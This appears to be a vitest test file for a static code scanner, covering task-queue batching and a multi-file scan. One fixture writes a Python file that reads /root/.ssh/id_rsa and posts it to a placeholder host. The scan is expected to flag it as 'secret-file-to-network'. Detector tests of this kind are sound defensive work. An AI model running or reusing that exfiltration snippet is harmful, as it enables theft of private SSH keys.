import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../../src/model/report.ts';
import { TaskQueue } from '../../../src/static/worker-pool.ts';
import { sbx } from '../../support/sbx.ts';
import { temporaryFolder } from '../../support/temporary.ts';

const task = (path: string, bytes: number) => ({ path, content: new Uint8Array(bytes), unit: '.' });

describe('TaskQueue', () => {
  it('gives the largest files first and small ones together', () => {
    const queue = new TaskQueue([task('s', 10), task('l', 500_000), task('m', 40_000), task('t', 20)]);
    const paths = () => queue.takeBatch()?.map(({ path }) => path) ?? null;
    expect([paths(), paths(), paths()]).toEqual([['l'], ['m', 't', 's'], null]);
  });

  it('gives the smallest one away only up to a size, and no file twice', () => {
    const queue = new TaskQueue([task('s', 10), task('l', 500_000), task('m', 40_000)]);
    expect(queue.takeSmallest(1_000)?.path).toBe('s');
    expect(queue.takeSmallest(1_000)).toBe(null);
    expect(queue.takeBatch()?.map(({ path }) => path)).toEqual(['l']);
    expect(queue.takeBatch()?.map(({ path }) => path)).toEqual(['m']);
    expect(queue.takeBatch()).toBe(null);
    expect(queue.takeSmallest(1_000)).toBe(null);
  });
});

describe('a large target', () => {
  it('is analysed in workers, every file of it', async () => {
    const folder = temporaryFolder();
    mkdirSync(join(folder, 'pkg'));
    const filler = 'def f(x):\n    return [y for y in range(x) if y % 2]\n'.repeat(400);
    for (let index = 0; index < 24; index++) writeFileSync(join(folder, 'pkg', `m${index}.py`), filler);
    writeFileSync(
      join(folder, 'pkg', 'send.py'),
      'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n',
    );
    const { status, stdout } = await sbx(['scan', folder, '--format', 'json']);
    const report = JSON.parse(stdout) as Report;
    expect(report.coverage).toMatchObject({ files: 25, analysed: 25 });
    expect(report.findings.map((finding) => finding.ruleId)).toContain('secret-file-to-network');
    expect(status).toBe(1);
  });
});
